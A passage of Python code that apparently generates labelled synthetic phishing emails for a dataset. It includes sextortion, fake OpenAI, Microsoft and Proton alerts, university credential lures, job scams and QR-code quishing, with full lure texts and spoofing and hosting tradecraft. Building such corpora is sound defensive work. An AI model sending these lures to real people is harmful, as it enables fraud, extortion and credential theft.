        "empleo y te ofrecemos un trabajo remoto a tiempo parcial, compatible con tus estudios.", "",
        "Tareas: dar \"me gusta\" y seguir vídeos de YouTube y TikTok de nuestros clientes para mejorar su posicionamiento.<br>"
        "Horario: 30-60 minutos al día, desde el móvil.<br>"
        "Sueldo: entre <b>80 € y 300 € al día</b>, pago diario por Bizum o transferencia.<br>"
        "Requisitos: mayor de 18 años y tener WhatsApp. No se necesita experiencia.", "",
        "Las plazas son limitadas. Si te interesa, escribe a nuestra coordinadora Sra. Marta por WhatsApp:", 
        f'<a href="{wa}">+34 613 05 82 74</a>', "",
        "Un saludo cordial,", "Equipo de Selección - Talentia Digital Group",
    ]
    plain = ("Hola,\n\nSomos el departamento de Recursos Humanos de Talentia Digital Group. Te ofrecemos un trabajo remoto a "
             "tiempo parcial, compatible con tus estudios.\n\nTareas: dar \"me gusta\" y seguir vídeos de YouTube y TikTok.\n"
             "Sueldo: entre 80 € y 300 € al día, pago diario por Bizum o transferencia.\n\nSi te interesa, escribe a nuestra "
             f"coordinadora Sra. Marta por WhatsApp: +34 613 05 82 74\n{wa}\n\nUn saludo cordial,\nEquipo de Selección\n")
    headers = [
        *out,
        f"From: Talentia Digital RRHH <{sender}>",
        f"To: {addr('', rcpt)}",
        f"Subject: {enc('Oferta de empleo remoto para estudiantes - 80€ a 300€ al día')}",
        f"Thread-Topic: {enc('Oferta de empleo remoto para estudiantes - 80€ a 300€ al día')}",
        f"Thread-Index: AQHcS{rnd(seed + 'ti', 24, B64)}==",
        f"Date: {rfc(when)}",
        f"Message-ID: {mid}",
        *ms_tail(seed, "outlook.es", lang="es-ES"),
        "MIME-Version: 1.0",
    ]
    body = Multi("alternative", f"_000_{mid[1:].split('@')[0]}_", [text(plain), text(outlook_html(paras), "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("phishing", "phish", "sextortion-spoofed-self-btc",
        "Sextortion: 'I hacked your device and recorded you' demanding $1,450 in Bitcoin, with the victim's own "
        "Outlook.com address forged as the sender (SPF softfail, no DKIM, DMARC fail) from a foreign server.")
def sextortion():
    seed = "b31-sextortion"
    when = utc("2025-06-17 04:41:26")
    rcpt = "liam.obrien.07@outlook.com"
    a = Auth("113.160.224.98", "static.vnpt.vn", rcpt, "softfail", [], "fail", "none", "outlook.com", seed)
    body_text = (
        "Hello!\n\n"
        "I have to share bad news with you.\n"
        "Approximately few months ago I have gained access to your devices, which you use for internet browsing.\n"
        "After that, I have started tracking your internet activities.\n\n"
        "Here is the sequence of events:\n"
        "Some time ago I have purchased access to email accounts from hackers (nowadays, it is quite simple to purchase "
        "such thing online).\nObviously, I have easily managed to log in to your email account "
        f"({rcpt}).\n\n"
        "One week later, I have already installed Trojan virus to Operating Systems of all the devices that you use to "
        "access your email.\nIn fact, it was not really hard at all (since you were following the links from your inbox "
        "emails).\n\n"
        "I made a video showing you (through your camera) satisfying yourself on the left half of the screen, and the "
        "right half shows the video that you were watching at that moment.\nWith one click of my mouse, I can send this "
        "video to all your emails and contacts on social networks.\n\n"
        "If you want to prevent this, transfer the amount of 1450 USD to my bitcoin address (if you do not know how to do "
        "this, write to Google: \"Buy Bitcoin\").\n\n"
        "My bitcoin address (BTC Wallet) is: bc1qm7t4l0xv2e9hw5c3zr8qk6n2fjy4dsa0pu7g3x\n\n"
        "After receiving the payment, I will delete the video and you will never hear from me again.\n"
        "I give you 50 hours (more than 2 days) to pay. I have a notice reading this letter, and the timer will work "
        "when you see this letter.\n\nFiling a complaint somewhere does not make sense because this email cannot be "
        "tracked like my bitcoin address.\nI do not make any mistakes.\n\nGood luck!\n")
    headers = [
        f"Received: from [127.0.0.1] (unknown [113.160.224.98])\n\tby static.vnpt.vn with ESMTPA id 7A1{hx(seed + 'q', 8).upper()}\n"
        f"\tfor <{rcpt}>; {rfc(plus(when, -1), '+0700')}",
        f"From: {rcpt}",
        f"To: {rcpt}",
        "Subject: Your account has been hacked! You need to unlock it.",
        f"Date: {rfc(when, '+0700')}",
        f"Message-ID: <{hx(seed + 'mid', 8).upper()}.{hx(seed + 'mid2', 8).upper()}@outlook.com>",
        "X-Priority: 3",
        "X-MSMail-Priority: Normal",
        "X-Mailer: Microsoft Outlook Express 6.00.2900.5512",
        "X-MimeOLE: Produced By Microsoft MimeOLE V6.00.2900.5512",
        "MIME-Version: 1.0",
    ]
    return message(hdr(deliver(rcpt, plus(when, 3), a), headers), text(body_text, encoding="7bit", charset="us-ascii"))


@sample("phishing", "phish", "chatgpt-plus-de-ses",
        "German 'Ihr ChatGPT Plus-Abonnement konnte nicht verlängert werden' mail sent through Amazon SES from the "
        "look-alike openai-abrechnung.com (passes its checks), linking to a fake OpenAI billing page that takes card data.")
def chatgpt_de():
    seed = "b31-chatgpt-de"
    when = utc("2025-09-23 06:12:40")
    rcpt = "annika.vogel.ks@gmail.com"
    dom = "openai-abrechnung.com"
    ip, helo, ses = ses_hops(seed, when, "eu-central-1")
    ip = ip.replace("54.240.", "69.169.")
    helo = helo.replace("smtp-out.amazonses.com", "smtp-out.eu-central-1.amazonses.com")
    mf = f"010701{hx(seed + 'rp', 10)}-{hx(seed + 'rp2', 8)}-000000@eu-central-1.amazonses.com"
    a = Auth(ip, helo, mf, "pass", [(dom, "hq5tj3qy", "pass"), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", "pass")],
             "pass", "none", dom, seed)
    url = f"https://billing.{dom}/de-DE/konto/zahlung?session=cs_live_a1{rnd(seed + 'cs', 30)}"
    html = html_page(f"""<body style="margin:0;background:#ffffff;">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center">
<table width="540" cellpadding="0" cellspacing="0" border="0" style="font-family:S&ouml;hne,Helvetica,Arial,sans-serif;color:#202123;">
<tr><td style="padding:36px 0 24px 0;font-size:22px;font-weight:bold;">OpenAI</td></tr>
<tr><td style="font-size:24px;font-weight:bold;padding-bottom:18px;">Zahlung fehlgeschlagen</td></tr>
<tr><td style="font-size:15px;line-height:24px;">
Hallo,<br /><br />
leider konnten wir die Zahlung f&uuml;r Ihr <b>ChatGPT Plus</b>-Abonnement (20,00 &euro;/Monat) nicht verarbeiten. Ihre Bank hat die Transaktion abgelehnt.<br /><br />
Bitte aktualisieren Sie Ihre Zahlungsinformationen innerhalb von 48 Stunden, damit Sie weiterhin Zugriff auf GPT-5, Bildgenerierung und erweiterte Funktionen haben. Andernfalls wird Ihr Konto auf den kostenlosen Tarif zur&uuml;ckgestuft und Ihre Chatverl&auml;ufe k&ouml;nnen verloren gehen.</td></tr>
<tr><td style="padding:28px 0;"><a href="{url}" style="background:#10a37f;color:#ffffff;padding:12px 24px;border-radius:6px;text-decoration:none;font-size:15px;">Zahlungsmethode aktualisieren</a></td></tr>
<tr><td style="font-size:12px;color:#6e6e80;padding-top:10px;border-top:1px solid #ececf1;">OpenAI Ireland Ltd, 1st Floor, The Liffey Trust Centre, 117-126 Sheriff Street Upper, Dublin 1, D01 YC43, Irland</td></tr>
</table></td></tr></table></body>""", "OpenAI")
    plain = ("OpenAI\n\nZahlung fehlgeschlagen\n\nHallo,\n\nleider konnten wir die Zahlung für Ihr ChatGPT Plus-Abonnement "
             "(20,00 €/Monat) nicht verarbeiten.\nBitte aktualisieren Sie Ihre Zahlungsinformationen innerhalb von 48 Stunden:\n"
             f"{url}\n\nOpenAI Ireland Ltd\n")
    headers = [
        *ses,
        dkim(dom, "hq5tj3qy", seed, when, h="From:To:Subject:MIME-Version:Content-Type:Message-ID:Date"),
        f"From: OpenAI <billing@{dom}>",
        f"To: {rcpt}",
        f"Subject: {enc('Ihr ChatGPT Plus-Abonnement konnte nicht verlängert werden')}",
        "MIME-Version: 1.0",
        f"Message-ID: {ses_msgid(seed, when, 'eu-central-1.')}",
        f"Date: {rfc(when)}",
        f"Feedback-ID: ::1.eu-central-1.{rnd(seed + 'fb', 43, B64)}=:AmazonSES",
        f"X-SES-Outgoing: {when:%Y.%m.%d}-{ip}",
    ]
    body = Multi("alternative", f"----=_Part_{num(seed + 'p', 100000, 999999)}_{num(seed + 'p2', 10**8, 10**9)}.{int(when.timestamp()) * 1000}",
                 [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("phishing", "phish", "microsoft-account-unusual-signin-r2",
        "Microsoft account 'unusual sign-in activity' alert to an Outlook.com user from an unrelated throwaway domain, "
        "with the 'Review recent activity' button pointing at a Cloudflare r2.dev bucket hosting a fake Microsoft login.")
def microsoft_r2():
    seed = "b31-msr2"
    when = utc("2024-11-05 12:19:37")
    rcpt = "ethan.carter2004@hotmail.com"
    dom = "access-accsecurity.com"
    a = Auth("146.70.87.201", "mail.access-accsecurity.com", f"no-reply@{dom}", "pass", [], None, header_from=dom, seed=seed)
    url = "https://pub-3f9c2a1b7d8e4f60a5b2c9d1e0f7a6b3.r2.dev/account/verify.html?mkt=en-US&amp;uaid=" + hx(seed + "ua", 32)
    html = html_page(f"""<body>
<table dir="ltr"><tr><td style="padding:0;font-family:'Segoe UI Semibold','Segoe UI Bold','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:17px;color:#707070;">Microsoft account</td></tr>
<tr><td style="padding:0;font-family:'Segoe UI Light','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:41px;color:#2672ec;">Unusual sign-in activity</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">We detected something unusual about a recent sign-in to the Microsoft account <a dir="ltr" style="color:#2672ec;text-decoration:none;" href="mailto:{rcpt}">{rcpt[:2]}*****@hotmail.com</a>.</td></tr>
<tr><td style="padding:0;padding-top:6px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">
<b>Sign-in details</b><br />Country/region: Russia/Moscow<br />IP address: 103.225.77.255<br />Date: 11/05/2024 11:58 AM (GMT)<br />Platform: Windows 10<br />Browser: Firefox</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">A user from Russia/Moscow just logged into your account from a new device. If this wasn't you, please report the user. If this was you, we'll trust similar activity in the future.</td></tr>
<tr><td style="padding:0;padding-top:25px;"><table border="0" cellspacing="0"><tr><td bgcolor="#2672ec" style="background-color:#2672ec;padding:5px 20px;min-width:50px;"><a href="{url}" style="font-family:'Segoe UI Semibold',Arial,sans-serif;font-size:14px;text-align:center;text-decoration:none;font-weight:600;color:#fff;">Report The User</a></td></tr></table></td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Thanks,</td></tr>
<tr><td style="padding:0;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">The Microsoft account team</td></tr>
</table></body>""", "Microsoft account")
    plain = ("Microsoft account\nUnusual sign-in activity\n\nWe detected something unusual about a recent sign-in to the "
             f"Microsoft account {rcpt[:2]}*****@hotmail.com.\n\nCountry/region: Russia/Moscow\nIP address: 103.225.77.255\n\n"
             f"Report The User: {url.replace('&amp;', '&')}\n\nThanks,\nThe Microsoft account team\n")
    headers = [
        f"Received: from access-accsecurity.com (localhost [127.0.0.1])\n\tby mail.access-accsecurity.com (Postfix) with ESMTPA id 1D{hx(seed + 'q', 10).upper()}\n"
        f"\tfor <{rcpt}>; {rfc(plus(when, -1))}",
        f"Date: {rfc(when)}",
        f"To: {rcpt}",
        f"From: Microsoft account team <no-reply@{dom}>",
        "Subject: Microsoft account unusual sign-in activity",
        f"Message-ID: <{hx(seed + 'mid', 32)}@{dom}>",
        "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
        "MIME-Version: 1.0",
    ]
    body = Multi("alternative", f"b1_{hx(seed + 'b', 32)}", [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 3), a), headers), body)


@sample("phishing", "phish", "proton-suspension-onmicrosoft-githubio",
        "Proton 'your account will be suspended - verify ownership' notice to a Proton user, sent from a throwaway "
        "Microsoft 365 trial tenant (*.onmicrosoft.com, passes everything) and linking to a GitHub Pages fake Proton login.")
def proton_githubio():
    seed = "b31-proton"
    when = utc("2025-12-09 18:47:14")
    rcpt = "quiet.fern@proton.me"
    sender = "support@protonsecure3.onmicrosoft.com"
    out, a, mid = m365_out(seed, when, sender, "NAM10-MW2-obe")
    url = "https://proton-account-center.github.io/verify/?u=quiet.fern"
    paras = [
        '<div style="max-width:520px;font-family:-apple-system,BlinkMacSystemFont,Segoe UI,Roboto,Arial,sans-serif;">'
        '<p style="font-size:22px;font-weight:bold;color:#6d4aff;margin:0 0 20px 0;">Proton</p>'
        '<p style="font-size:18px;font-weight:bold;color:#0c0c14;">Action required: verify your account</p>'
        '<p style="color:#0c0c14;line-height:22px;">Hello quiet.fern,</p>'
        '<p style="color:#0c0c14;line-height:22px;">We detected several failed sign-in attempts and a request to disable '
        'two-factor authentication on your Proton Account. To protect your data, your account will be <b>suspended in '
        '24 hours</b> unless you confirm ownership.</p>'
        f'<p style="margin:26px 0;"><a href="{url}" style="background:#6d4aff;color:#ffffff;padding:11px 22px;border-radius:8px;'
        'text-decoration:none;">Verify ownership</a></p>'
        '<p style="color:#706d6b;font-size:12px;">Proton AG, Route de la Galaise 32, 1228 Plan-les-Ouates, Geneva, '
        'Switzerland</p></div>',
    ]
    plain = ("Proton\n\nAction required: verify your account\n\nHello quiet.fern,\n\nWe detected several failed sign-in "
             "attempts and a request to disable two-factor authentication on your Proton Account. Your account will be "
             f"suspended in 24 hours unless you confirm ownership.\n\nVerify ownership: {url}\n\nProton AG\n")
    headers = [
        *out,
        f"From: Proton <{sender}>",
        f"To: {addr('', rcpt)}",
        "Subject: Action required: your Proton Account will be suspended",
        "Thread-Topic: Action required: your Proton Account will be suspended",
        f"Thread-Index: AQHcaa{rnd(seed + 'ti', 23, B64)}==",
        f"Date: {rfc(when)}",
        f"Message-ID: {mid}",
        *ms_tail(seed, "protonsecure3.onmicrosoft.com"),
        "MIME-Version: 1.0",
    ]
    body = Multi("alternative", f"_000_{mid[1:].split('@')[0]}_", [text(plain), text(outlook_html(paras), "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


# ============================================================================================
# attacks: students and abused platforms
# ============================================================================================

def ridgemont_internal(seed: str, when: datetime, from_addr: str) -> tuple[list[str], Auth, str]:
    """A message between two Ridgemont mailboxes (same Exchange Online tenant, sent from OWA/Outlook)."""
    r = num(seed + "reg", 10, 19)
    mbx = f"{rnd(seed + 'im', 2, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ')}{num(seed + 'imn', 0, 8)}PR{r}MB{num(seed + 'imx', 1000, 9999)}"
    a = Auth("2603:10b6:" + hx(seed + "iv6", 3) + "::" + str(num(seed + "iv", 10, 99)), f"{mbx}.namprd{r}.prod.outlook.com",
             from_addr, "pass", [], None, header_from=from_addr.split("@")[1], seed=seed)
    mid = f"<{mbx}{hx(seed + 'imid', 20).upper()}@{mbx}.namprd{r}.prod.outlook.com>"
    lines = [f"Received: from {mbx}.namprd{r}.prod.outlook.com\n ([fe80::{hx(seed + 'fe1', 4)}:{hx(seed + 'fe2', 4)}:{hx(seed + 'fe3', 4)}:{hx(seed + 'fe4', 4)}]) by "
             f"{mbx}.namprd{r}.prod.outlook.com\n ([fe80::{hx(seed + 'fe1', 4)}:{hx(seed + 'fe2', 4)}:{hx(seed + 'fe3', 4)}:{hx(seed + 'fe4', 4)}%7]) with mapi id "
             f"15.20.8{num(seed + 'ib', 100, 999)}.{num(seed + 'ib2', 10, 40)}; {rfc(plus(when, -1))}"]
    return lines, a, mid


@sample("phishing", "phish", "uni-mailbox-quota-internal-msforms",
        "'Mailbox storage limit exceeded' notice sent inside the university from a hijacked staff mailbox (internal, "
        "fully trusted), bcc'd to students, with a Microsoft Forms link that asks for the university username and password.")
def uni_quota_internal():
    seed = "b31-quota"
    when = utc("2025-02-19 14:03:27")
    rcpt = "d.okafor@my.ridgemont.edu"
    sender = "gmendez@ridgemont.edu"
    out, a, mid = ridgemont_internal(seed, when, sender)
    url = "https://forms.office.com/r/Xk8dP2qLmZ"
    paras = [
        "<b>IT SERVICE NOTICE</b>", "",
        "Dear Student/Staff,", "",
        "Your university mailbox has exceeded the storage limit set by the administrator (<b>49.6 GB / 50 GB</b>). You "
        "may not be able to send or receive new messages until you re-validate your mailbox.", "",
        f'To avoid interruption of service, please <a href="{url}">CLICK HERE</a> and complete the verification form.', "",
        "Failure to re-validate within 24 hours will result in your mailbox being deactivated.", "",
        "Regards,", "Ridgemont University IT Help Desk", "&copy; 2025 Ridgemont University",
    ]
    plain = ("IT SERVICE NOTICE\n\nDear Student/Staff,\n\nYour university mailbox has exceeded the storage limit set by the "
             f"administrator (49.6 GB / 50 GB).\n\nTo avoid interruption of service, please CLICK HERE <{url}> and complete "
             "the verification form.\n\nFailure to re-validate within 24 hours will result in your mailbox being "
             "deactivated.\n\nRegards,\nRidgemont University IT Help Desk\n")
    headers = [
        *out,
        f"From: \"Mendez, Gloria\" <{sender}>",
        f"To: \"Mendez, Gloria\" <{sender}>",
        "Subject: IT SERVICE NOTICE: Mailbox Storage Limit Exceeded",
        "Thread-Topic: IT SERVICE NOTICE: Mailbox Storage Limit Exceeded",
        f"Thread-Index: AQHbgu{rnd(seed + 'ti', 23, B64)}==",
        f"Date: {rfc(when)}",
        f"Message-ID: {mid}",
        *ms_tail(seed, "ridgemont.edu"),
        "X-MS-Exchange-Organization-SenderIdResult:",
        "X-MS-Exchange-Organization-RecordReviewCfmType: 0",
        "MIME-Version: 1.0",
    ]
    body = Multi("alternative", f"_000_{mid[1:].split('@')[0]}_", [text(plain), text(outlook_html(paras, "Calibri"), "html")])
    return message(hdr(deliver(rcpt, plus(when, 1), a, internal=True), headers), body)


@sample("phishing", "phish", "canvas-grades-lookalike-webflow",
        "Fake Canvas 'new grade posted / submission comment' notification sent via Mailjet from the look-alike "
        "instructure-notify.com, linking to a Webflow-hosted copy of the university SSO login page.")
def canvas_webflow():
    seed = "b31-canvas"
    when = utc("2025-04-28 23:18:02")
    rcpt = "priya.nair@my.ridgemont.edu"
    dom = "instructure-notify.com"
    ip = f"87.253.233.{num(seed + 'mj', 100, 200)}"
    mf = f"{hx(seed + 'mjb', 8)}.{num(seed + 'mjn', 1000000, 9999999)}@bnc3.mailjet.com"
    a = Auth(ip, f"o{ip.split('.')[-1]}.p8.mailjet.com", mf, "pass", [(dom, "mailjet", "pass")], "pass", "none", dom, seed)
    url = "https://ridgemont-canvas.webflow.io/login/saml?redirect=%2Fcourses%2F48213%2Fgrades"
    track = f"https://{num(seed + 'mjc', 10000, 99999)}.mjt.lu/lnk/{rnd(seed + 'mjl', 60, B62 + '-_')}/1/{rnd(seed + 'mjl2', 24)}/aHR0cHM6Ly9yaWRnZW1vbnQtY2FudmFzLndlYmZsb3cuaW8vbG9naW4vc2FtbA"
    html = html_page(f"""<body style="margin:0;background:#ffffff;">
<div style="max-width:600px;margin:0 auto;font-family:'Lato','Helvetica Neue',Helvetica,Arial,sans-serif;color:#2d3b45;">
<div style="padding:20px 0;border-bottom:1px solid #c7cdd1;"><img src="https://du11hjcvx0uqb.cloudfront.net/dist/images/email_signature-cb6b9ffa5d.png" width="120" alt="Canvas" /></div>
<p style="font-size:16px;margin-top:24px;">A grade has been posted and a comment was added to your submission.</p>
<p style="font-size:15px;"><b>Assignment:</b> Lab Report 4 - Enzyme Kinetics<br /><b>Course:</b> BIOL 221: Cell and Molecular Biology (Spring 2025)<br /><b>Score:</b> 61 out of 100</p>
<p style="font-size:15px;">Comment from Dr. R. Albrecht: "Please see my notes on the rubric before the regrade deadline on Wednesday."</p>
<p><a href="{track}" style="color:#0374b5;font-size:15px;">View the submission and comments</a></p>
<div style="margin-top:30px;padding-top:12px;border-top:1px solid #c7cdd1;font-size:12px;color:#6b7780;">
<a href="{track}" style="color:#0374b5;">Update your notification settings</a></div>
</div>
<img src="https://{num(seed + 'mjc', 10000, 99999)}.mjt.lu/oo/{rnd(seed + 'mjo', 50, B62 + '-_')}/{rnd(seed + 'mjo2', 12)}/e.gif" height="1" width="1" alt="" border="0" style="height:1px;width:1px;border:0;" /></body>""", "Canvas")
    plain = ("A grade has been posted and a comment was added to your submission.\n\nAssignment: Lab Report 4 - Enzyme Kinetics\n"
             "Course: BIOL 221: Cell and Molecular Biology (Spring 2025)\nScore: 61 out of 100\n\n"
             f"View the submission and comments:\n{track}\n")
    headers = [
        f"Received: from localhost (unknown [127.0.0.1])\n\tby o{ip.split('.')[-1]}.p8.mailjet.com (Postfix) with ESMTP id 4Zmr{rnd(seed + 'q', 6)}\n"
        f"\tfor <{rcpt}>; {rfc(plus(when, -1))}",
        dkim(dom, "mailjet", seed, when, h="Message-Id:Date:Subject:From:To:MIME-Version:Content-Type"),
        f"Message-Id: <{uuid(seed + 'mjm')}@mailjet.com>",
        f"Date: {rfc(when)}",
        "Subject: Lab Report 4 - Enzyme Kinetics, BIOL 221: Cell and Molecular Biology: grade posted",
        f"From: Canvas Notifications <notifications@{dom}>",
        f"To: {rcpt}",
        "MIME-Version: 1.0",
        f"X-CSA-Complaints: csa-complaints@eco.de",
        f"X-MJ-Mid: {rnd(seed + 'mjmid', 40, B64)}",
        f"X-Mailjet-Campaign: {num(seed + 'camp', 1000000, 9999999)}",
        f"Feedback-Id: {num(seed + 'f1', 10, 99)}.{num(seed + 'f2', 1000000, 9999999)}.{num(seed + 'f3', 1000000, 9999999)}:MJM",
    ]
    body = Multi("alternative", f"=-{rnd(seed + 'b', 22, B64)}", [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("phishing", "phish", "finaid-refund-compromised-edu-weebly",
        "'Your financial aid refund of $2,430 is ready - confirm direct deposit' sent from a hijacked staff mailbox of "
        "another college (Microsoft 365, passes everything) to a student's Gmail, linking to a Weebly page that "
        "collects SSO credentials and bank details.")
def finaid_refund():
    seed = "b31-finaid"
    when = utc("2025-09-08 16:44:31")
    rcpt = "rosa.delgado.22@gmail.com"
    sender = "mthompson@ehc.edu"
    out, a, mid = m365_out(seed, when, sender, "NAM12-BN8-obe")
    url = "https://finaid-refund-portal.weebly.com/"
    paras = [
        "Good afternoon,", "",
        "The Office of Student Financial Aid has processed the Fall 2025 disbursement. A credit balance refund of "
        "<b>$2,430.00</b> has been issued to your student account.", "",
        "Due to a recent update of our payment system, all students must confirm their direct deposit information "
        "before the refund can be released. Please log in with your student portal credentials and confirm your details "
        "by <b>Friday, September 12</b>:", "",
        f'<a href="{url}">Student Refund Portal - Confirm Direct Deposit</a>', "",
        "Refunds not confirmed by the deadline will be returned to the Department of Education.", "",
        "Sincerely,", "Michael Thompson", "Financial Aid Counselor", "Office of Student Financial Aid",
    ]
    plain = "\n".join(p.replace("<b>", "").replace("</b>", "")
                      .replace(f'<a href="{url}">Student Refund Portal - Confirm Direct Deposit</a>',
                               f"Student Refund Portal - Confirm Direct Deposit <{url}>") for p in paras) + "\n"
    headers = [
        *out,
        f"From: \"Thompson, Michael\" <{sender}>",
        f"To: \"{rcpt}\" <{rcpt}>",
        "Subject: Fall 2025 Financial Aid Refund - Action Required",
        "Thread-Topic: Fall 2025 Financial Aid Refund - Action Required",
        f"Thread-Index: AQHcIN{rnd(seed + 'ti', 23, B64)}==",
        f"Date: {rfc(when)}",
        f"Message-ID: {mid}",
        *ms_tail(seed, "ehc.edu"),
        "MIME-Version: 1.0",
    ]
    body = Multi("alternative", f"_000_{mid[1:].split('@')[0]}_", [text(plain), text(outlook_html(paras, "Calibri"), "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("phishing", "phish", "student-job-assistant-check-scam",
        "'Part-time personal assistant job, $450/week' offer bcc'd to students from a hijacked Google Workspace account "
        "of another university, with Reply-To to a Gmail 'professor' - the fake-check / gift-card job scam, no link.")
def student_job_check():
    seed = "b31-jobcheck"
    when = utc("2025-01-27 13:55:48")
    rcpt = "tomas.nunez@my.ridgemont.edu"
    sender = "kjohnson27@students.harlanu.edu"
    out, a = workspace_out(seed, when, rcpt, sender)
    paras = [
        "Hello,", "",
        "I am Dr. Paul Henderson from the Department of Psychology. I am looking for a student to work as my personal "
        "assistant during the semester. The job is flexible and remote, it will only take 4-5 hours a week and you will "
        "be paid <b>$450 weekly</b>.", "",
        "Duties include running errands, buying supplies for charity projects and handling some payments for me since I "
        "travel a lot for conferences.", "",
        "If interested, kindly reply to my personal email below with the following information:", "",
        "Full Name:<br>Cell phone number:<br>Year of study:<br>Personal email (not school email):", "",
        "Email: <b>dr.paulhenderson.office@gmail.com</b>", "",
        "Best regards,", "Dr. Paul Henderson",
    ]
    plain = ("Hello,\n\nI am Dr. Paul Henderson from the Department of Psychology. I am looking for a student to work as my "
             "personal assistant during the semester. The job is flexible and remote, 4-5 hours a week, paid $450 weekly.\n\n"
             "Duties include running errands, buying supplies for charity projects and handling some payments for me since "
             "I travel a lot for conferences.\n\nIf interested, kindly reply to my personal email below with:\n\nFull Name:\n"
             "Cell phone number:\nYear of study:\nPersonal email (not school email):\n\nEmail: dr.paulhenderson.office@gmail.com\n\n"
             "Best regards,\nDr. Paul Henderson\n")
    headers = [
        *out,
        "MIME-Version: 1.0",
        f"From: Paul Henderson <{sender}>",
        f"Date: {rfc(plus(when, -2), '-0600')}",
        f"Message-ID: {gmail_msgid(seed)}",
        "Subject: Part-Time Job Opportunity - Personal Assistant ($450 weekly)",
        "To: undisclosed-recipients:;",
        "Reply-To: dr.paulhenderson.office@gmail.com",
    ]
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), alt(seed, plain, gmail_html(paras)))


@sample("phishing", "phish", "biblioteca-es-qr-inline",
        "Spanish 'Biblioteca: su cuenta de usuario caducará' notice from a hijacked student account of another Spanish "
        "university (Google Workspace, passes), carrying almost no text and an inline QR code image that leads to a "
        "Google Sites login form.")
def biblioteca_qr():
    seed = "b31-biblio"
    when = utc("2025-11-18 08:31:09")
    rcpt = "marta.gil@alumnos.uvc.es"
    sender = "a.perez.2021@alu.unisur.es"
    out, a = workspace_out(seed, when, rcpt, sender)
    qr = files.qr_png("https://sites.google.com/view/biblioteca-uvc-renovacion/inicio?u=marta.gil")
    cid = f"ii_m{hx(seed + 'cid', 14)}"
    html = ('<div dir="ltr"><div><b>Biblioteca Universitaria - Aviso</b></div><div><br></div>'
            '<div>Su cuenta de usuario de la biblioteca caducará en 48 horas y los préstamos activos se bloquearán.</div>'
            '<div>Escanee el código QR con su móvil para renovarla con sus credenciales de la universidad.</div><div><br></div>'
            f'<div><img src="cid:{cid}" alt="QR.png" width="246" height="246"><br></div>'
            '<div><br></div><div>Servicio de Biblioteca</div></div>\n')
    plain = ("Biblioteca Universitaria - Aviso\n\nSu cuenta de usuario de la biblioteca caducará en 48 horas y los "
             "préstamos activos se bloquearán.\nEscanee el código QR con su móvil para renovarla con sus credenciales de "
             "la universidad.\n\n[image: QR.png]\n\nServicio de Biblioteca\n")
    headers = [
        *out,
        "MIME-Version: 1.0",
        f"From: Biblioteca Universitaria <{sender}>",
        f"Date: {rfc(plus(when, -2), '+0100')}",
        f"Message-ID: {gmail_msgid(seed)}",
        f"Subject: {enc('Aviso: su cuenta de biblioteca caducará')}",
        f"To: {rcpt}",
    ]
    body = related(f"000000000000{hx(seed + 'rel', 16)}",
                   alt(seed, plain, html),
                   Leaf("image/png", qr, "base64", '; name="QR.png"', 'inline; filename="QR.png"',
                        [f"Content-ID: <{cid}>", f"X-Attachment-Id: {cid}"]))
    return message(hdr(deliver(rcpt, plus(when, 1), a, google_sender=True), headers), body)


@sample("phishing", "phish", "m365-mfa-reenroll-qr-pdf",
        "'Multi-factor authentication re-enrollment required' sent to a student as 'Ridgemont IT Service Desk' from a "
        "hijacked Microsoft 365 mailbox of an unrelated company, with a PDF whose only content is a QR code leading to "
        "an adversary-in-the-middle copy of the university sign-in (quishing).")
def m365_qr_pdf():
    seed = "b31-mfaqr"
    when = utc("2025-03-03 08:17:44")
    rcpt = "aisha.rahman@my.ridgemont.edu"
    sender = "frontdesk@crestlinedentalgroup.com"
    out, a, mid = m365_out(seed, when, sender, "NAM02-DM3-obe")
    pdf = qr_pdf([
        "Ridgemont University - Information Technology Services",
        "",
        "Multi-Factor Authentication (MFA) Re-Enrollment",
        "",
        "Account: aisha.rahman@my.ridgemont.edu",
        "Deadline: 03/05/2025",
        "",
        "Scan the QR code below with your phone camera to keep access to",
        "Outlook, Canvas and Workday.",
    ], "https://ridgemont-sso.auth-renew.com/?e=YWlzaGEucmFobWFuQG15LnJpZGdlbW9udC5lZHU=", [
        "Accounts that are not re-enrolled by the deadline will be locked.",
        "ITS Service Desk - servicedesk@ridgemont.edu",
    ], "MFA_Reenrollment_Aisha_Rahman")
    paras = [
        "Hello Aisha Rahman,", "",
        "Your Microsoft 365 multi-factor authentication settings expire on 03/05/2025. Please review the attached "
        "document and complete re-enrollment using your mobile device.", "",
        "Ridgemont University IT Service Desk",
    ]
    plain = "\n".join(paras) + "\n"
    headers = [
        *out,
        f"From: Ridgemont IT Service Desk <{sender}>",
        f"To: Aisha Rahman <{rcpt}>",
        "Subject: ACTION REQUIRED: MFA Re-Enrollment - Aisha Rahman",
        "Thread-Topic: ACTION REQUIRED: MFA Re-Enrollment - Aisha Rahman",
        f"Thread-Index: AQHbjB{rnd(seed + 'ti', 23, B64)}==",
        f"Date: {rfc(when)}",
        f"Message-ID: {mid}",
        *ms_tail(seed, "crestlinedentalgroup.com", has_attach=True),
        "MIME-Version: 1.0",
    ]
